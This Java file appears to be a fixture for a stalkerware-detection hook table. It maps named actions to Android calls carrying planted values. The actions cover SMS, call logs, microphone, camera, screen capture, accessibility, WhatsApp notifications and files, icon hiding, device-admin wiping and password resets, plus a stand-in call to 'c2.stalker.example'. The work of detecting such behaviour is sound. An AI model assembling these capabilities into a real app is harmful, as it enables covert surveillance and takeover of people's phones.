package com.example.watched;

import android.accessibilityservice.AccessibilityService;
import android.app.ApplicationPackageManager;
import android.app.admin.DevicePolicyManager;
import android.app.usage.UsageStatsManager;
import android.content.ClipboardManager;
import android.content.ComponentName;
import android.content.ContentProviderClient;
import android.content.ContentResolver;
import android.content.Intent;
import android.content.pm.LauncherApps;
import android.content.pm.PackageManager;
import android.database.ContentObserver;
import android.hardware.Camera;
import android.hardware.camera2.CameraManager;
import android.location.Criteria;
import android.location.LocationManager;
import android.media.AudioRecord;
import android.media.ImageReader;
import android.media.MediaRecorder;
import android.media.projection.MediaProjection;
import android.media.projection.MediaProjectionManager;
import android.net.Uri;
import android.provider.Telephony;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import android.telephony.PhoneStateListener;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;
import android.telephony.TelephonyCallback;
import android.telephony.TelephonyManager;
import android.view.accessibility.AccessibilityEvent;
import android.view.accessibility.AccessibilityNodeInfo;
import com.google.android.gms.location.FusedLocationProviderClient;
import java.io.FileInputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** What the app can do, by the name of the row of the hook table that sees it. Every argument holds what is planted. */
final class Actions {
    interface Action {
        void run() throws Exception;
    }

    static final Map<String, Action> BY_NAME = new TreeMap<>();

    private static final ContentResolver RESOLVER = new ContentResolver();
    private static final AccessibilityService WATCHER = new Watcher();
    private static final NotificationListenerService LISTENER = new Listener();
    private static final ApplicationPackageManager PACKAGES = new ApplicationPackageManager();
    private static final DevicePolicyManager POLICIES = new DevicePolicyManager();
    private static final LocationManager LOCATION = new LocationManager();
    private static final ClipboardManager CLIPBOARD = new ClipboardManager();
    private static final SmsManager SMS = new SmsManager();
    private static final ComponentName ICON = new ComponentName("com.example.watched", "com.example.watched.Icon");
    private static final ComponentName PART = new ComponentName("com.example.watched", "com.example.watched.Part");

    private Actions() {}

    static {
        content("sms", "sms");
        content("calls", "call_log");
        content("contacts", "com.android.contacts");
        content("calendar", "com.android.calendar");
        content("media", "media");
        messages();
        sound();
        pictures();
        places();
        services();
        system();
        network();
    }

    private static void content(String category, String authority) {
        Uri uri = Uri.parse("content://" + authority + Planted.PATH + "/" + Planted.NUMBER);
        String where = "address='" + Planted.NUMBER + "' AND body='" + Planted.TEXT + "'";
        BY_NAME.put(category + ".query", () -> RESOLVER.query(uri, null, where, null, null));
        ContentProviderClient client = new ContentProviderClient();
        BY_NAME.put(category + ".client-query", () -> client.query(uri, null, where, null, null));
        BY_NAME.put(
                category + ".observe", () -> RESOLVER.registerContentObserver(uri, true, new ContentObserver()));
        if (authority.equals("media")) {
            BY_NAME.put("media.openInputStream", () -> RESOLVER.openInputStream(uri));
            BY_NAME.put("media.openAssetFileDescriptor", () -> RESOLVER.openAssetFileDescriptor(uri, "r"));
            BY_NAME.put("media.loadThumbnail", () -> RESOLVER.loadThumbnail(uri, null, null));
            BY_NAME.put("media.openFileDescriptor", () -> RESOLVER.openFileDescriptor(uri, "r"));
        }
    }

    private static void messages() {
        byte[] pdu = (Planted.NUMBER + Planted.TEXT).getBytes();
        BY_NAME.put("sms.received", () -> SmsMessage.createFromPdu(pdu));
        BY_NAME.put("sms.intent", () -> Telephony.Sms.Intents.getMessagesFromIntent(new Intent(Planted.TEXT)));
        BY_NAME.put("sms.sendTextMessage", () -> SMS.sendTextMessage(Planted.NUMBER, null, Planted.TEXT, null, null));
        BY_NAME.put(
                "sms.sendMultipartTextMessage",
                () -> SMS.sendMultipartTextMessage(
                        Planted.NUMBER, null, new ArrayList<>(List.of(Planted.TEXT)), null, null));
        BY_NAME.put(
                "sms.sendDataMessage", () -> SMS.sendDataMessage(Planted.NUMBER, null, (short) 9, pdu, null, null));
        BY_NAME.put(
                "sms.sendTextMessageWithoutPersisting",
                () -> SMS.sendTextMessageWithoutPersisting(Planted.NUMBER, null, Planted.TEXT, null, null));
        BY_NAME.put(
                "sms.sendMultimediaMessage", () -> SMS.sendMultimediaMessage(null, null, Planted.PATH, null, null));
        TelephonyManager telephony = new TelephonyManager();
        BY_NAME.put("calls.listen", () -> telephony.listen(new PhoneStateListener(), 0x20 | 0x01));
        BY_NAME.put("calls.callback", () -> telephony.registerTelephonyCallback(null, new CallWatcher()));
        BY_NAME.put("calls.data", () -> telephony.listen(new PhoneStateListener(), 0x40));
        BY_NAME.put("calls.signal", () -> telephony.registerTelephonyCallback(null, new TelephonyCallback()));
    }

    private static final class CallWatcher extends TelephonyCallback implements TelephonyCallback.CallStateListener {}

    private static void sound() {
        byte[] audio = Planted.TEXT.getBytes();
        BY_NAME.put("microphone.record", () -> {
            AudioRecord recorder = new AudioRecord(4);
            recorder.startRecording();
            recorder.read(audio, 0, audio.length);
        });
        BY_NAME.put("microphone.read", () -> {
            AudioRecord underWay = new AudioRecord(1);
            for (int i = 0; i < 5; i++) {
                underWay.read(audio, 0, audio.length);
            }
        });
        BY_NAME.put("microphone.recorder", () -> {
            MediaRecorder recorder = new MediaRecorder();
            recorder.setAudioSource(1);
            recorder.start();
        });
    }

    private static void pictures() {
        BY_NAME.put("camera.recorder", () -> record(1));
        BY_NAME.put("camera.open2", () -> new CameraManager().openCamera(Planted.TEXT, null, (android.os.Handler) null));
        BY_NAME.put("camera.open1", () -> Camera.open());
        BY_NAME.put("camera.picture1", () -> new Camera().takePicture(null, null, null));
        BY_NAME.put("screen.recorder", () -> record(2));
        BY_NAME.put("screen.accessibility", () -> WATCHER.takeScreenshot(0, null, null));
        BY_NAME.put("screen.window", () -> WATCHER.takeScreenshotOfWindow(0, null, null));
        BY_NAME.put("screen.ask", () -> new MediaProjectionManager().createScreenCaptureIntent());
        BY_NAME.put("screen.consent", () -> new MediaProjectionManager().getMediaProjection(-1, null));
        BY_NAME.put(
                "screen.display",
                () -> new MediaProjection().createVirtualDisplay(Planted.TEXT, 1, 1, 1, 0, null, null, null));
        BY_NAME.put("screen.latest", () -> new ImageReader().acquireLatestImage());
        BY_NAME.put("screen.next", () -> new ImageReader().acquireNextImage());
    }

    private static void record(int source) {
        MediaRecorder recorder = new MediaRecorder();
        recorder.setVideoSource(source);
        recorder.start();
    }

    private static void places() {
        BY_NAME.put("location.updates", () -> LOCATION.requestLocationUpdates("gps", 0, 0, null));
        BY_NAME.put("location.criteria", () -> LOCATION.requestLocationUpdates(0, 0, new Criteria(), null, null));
        BY_NAME.put("location.single", () -> LOCATION.requestSingleUpdate("gps", null, null));
        BY_NAME.put("location.current", () -> LOCATION.getCurrentLocation("fused", null, null, null));
        BY_NAME.put("location.last", () -> LOCATION.getLastKnownLocation(Planted.TEXT));
        BY_NAME.put("location.proximity", () -> LOCATION.addProximityAlert(1, 2, 3, 4, null));
        BY_NAME.put("location.cells", () -> new TelephonyManager().getAllCellInfo());
        BY_NAME.put("location.cell-update", () -> new TelephonyManager().requestCellInfoUpdate(null, null));
        BY_NAME.put("location.cell", () -> new TelephonyManager().getCellLocation());
        BY_NAME.put("location.fused-updates", () -> new FusedLocationProviderClient().requestLocationUpdates(null, null, null));
        BY_NAME.put("location.fused-current", () -> new FusedLocationProviderClient().getCurrentLocation(100, null));
        BY_NAME.put("location.fused-last", () -> new FusedLocationProviderClient().getLastLocation());
    }

    private static void services() {
        BY_NAME.put("accessibility.event", () -> WATCHER.onAccessibilityEvent(new AccessibilityEvent("com.tencent.mm")));
        BY_NAME.put("accessibility.forged", () -> WATCHER.onAccessibilityEvent(new AccessibilityEvent(Planted.TEXT)));
        BY_NAME.put("accessibility.root", () -> WATCHER.getRootInActiveWindow());
        BY_NAME.put("accessibility.node-action", () -> new AccessibilityNodeInfo(Planted.TEXT).performAction(16));
        BY_NAME.put("accessibility.windows", () -> WATCHER.getWindows());
        BY_NAME.put("accessibility.global-action", () -> WATCHER.performGlobalAction(1));
        BY_NAME.put("accessibility.gesture", () -> WATCHER.dispatchGesture(null, null, null));
        BY_NAME.put(
                "notifications.posted",
                () -> LISTENER.onNotificationPosted(new StatusBarNotification("com.whatsapp"), null));
        BY_NAME.put("notifications.active", () -> LISTENER.getActiveNotifications());
        BY_NAME.put("notifications.cancel-some", () -> LISTENER.cancelNotifications(new String[] {Planted.TEXT}));
        BY_NAME.put("notifications.cancel-all", () -> LISTENER.cancelAllNotifications());
        BY_NAME.put("notifications.snooze", () -> LISTENER.snoozeNotification(Planted.TEXT, 1));
        BY_NAME.put("notifications.cancel", () -> LISTENER.cancelNotification(Planted.TEXT));
    }

    private static void system() {
        BY_NAME.put("clipboard.read", () -> CLIPBOARD.getPrimaryClip());
        BY_NAME.put("clipboard.text", () -> CLIPBOARD.getText());
        BY_NAME.put("clipboard.listen", () -> CLIPBOARD.addPrimaryClipChangedListener(null));
        BY_NAME.put("apps.packages", () -> PACKAGES.getInstalledPackages(0));
        BY_NAME.put("apps.holders", () -> PACKAGES.getPackagesHoldingPermissions(new String[] {Planted.TEXT}, 0));
        BY_NAME.put("apps.activities", () -> new LauncherApps().getActivityList(null, null));
        BY_NAME.put("apps.applications", () -> PACKAGES.getInstalledApplications(0));
        BY_NAME.put(
                "apps.launchers", () -> PACKAGES.queryIntentActivities(new Intent("android.intent.action.MAIN"), 0));
        BY_NAME.put("apps.share", () -> PACKAGES.queryIntentActivities(new Intent("android.intent.action.SEND"), 0));
        UsageStatsManager usage = new UsageStatsManager();
        BY_NAME.put("apps.usage", () -> usage.queryUsageStats(0, 0, 1));
        BY_NAME.put("apps.usage-sum", () -> usage.queryAndAggregateUsageStats(0, 1));
        BY_NAME.put("apps.usage-events", () -> usage.queryEvents(0, 1));
        BY_NAME.put("hiding.component", () -> PACKAGES.setComponentEnabledSetting(ICON, 2, 1));
        BY_NAME.put(
                "hiding.components", () -> PACKAGES.setComponentEnabledSettings(List.of(setting(PART), setting(ICON))));
        BY_NAME.put("hiding.part", () -> PACKAGES.setComponentEnabledSetting(PART, 2, 1));
        BY_NAME.put("hiding.shown", () -> PACKAGES.setComponentEnabledSetting(ICON, 1, 1));
        policies();
        BY_NAME.put("commands.exec", () -> Runtime.getRuntime().exec("id " + Planted.TEXT).waitFor());
        BY_NAME.put("commands.start", () -> new ProcessBuilder("/usr/bin/id", Planted.TEXT).start().waitFor());
        BY_NAME.put("commands.missing", () -> Runtime.getRuntime().exec(new String[] {"/nowhere/su", "-c", "id"}));
    }

    private static PackageManager.ComponentEnabledSetting setting(ComponentName component) {
        return new PackageManager.ComponentEnabledSetting(component, 2, 1);
    }

    private static void policies() {
        BY_NAME.put("admin.lockNow", () -> POLICIES.lockNow());
        BY_NAME.put("admin.wipeData", () -> POLICIES.wipeData(0));
        BY_NAME.put("admin.wipeDevice", () -> POLICIES.wipeDevice(0));
        BY_NAME.put("admin.setKeyguardDisabledFeatures", () -> POLICIES.setKeyguardDisabledFeatures(PART, 1));
        BY_NAME.put(
                "admin.setPermissionGrantState",
                () -> POLICIES.setPermissionGrantState(PART, Planted.TEXT, Planted.TEXT, 1));
        BY_NAME.put("admin.resetPassword", () -> POLICIES.resetPassword(Planted.TEXT, 0));
        BY_NAME.put(
                "admin.resetPasswordWithToken", () -> POLICIES.resetPasswordWithToken(PART, Planted.TEXT, null, 0));
        BY_NAME.put("admin.setCameraDisabled", () -> POLICIES.setCameraDisabled(PART, true));
        BY_NAME.put("admin.setUninstallBlocked", () -> POLICIES.setUninstallBlocked(PART, Planted.TEXT, true));
        BY_NAME.put("admin.setPackagesSuspended", () -> POLICIES.setPackagesSuspended(PART, null, true));
        BY_NAME.put("admin.setApplicationHidden", () -> POLICIES.setApplicationHidden(PART, Planted.TEXT, true));
    }

    private static void network() {
        BY_NAME.put(
                "network.url",
                () -> new URL("https://u:p@c2.stalker.example" + Planted.PATH + "?" + Planted.QUERY).openConnection());
        BY_NAME.put("network.resolve", () -> InetAddress.getAllByName("localhost"));
        BY_NAME.put("network.connect", () -> {
            try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"))) {
                new Socket("127.0.0.1", server.getLocalPort()).close();
            }
        });
        BY_NAME.put(
                "messenger-files.open",
                () -> new FileInputStream(System.getProperty("files") + "/com.whatsapp/" + Planted.FILE).close());
    }
}
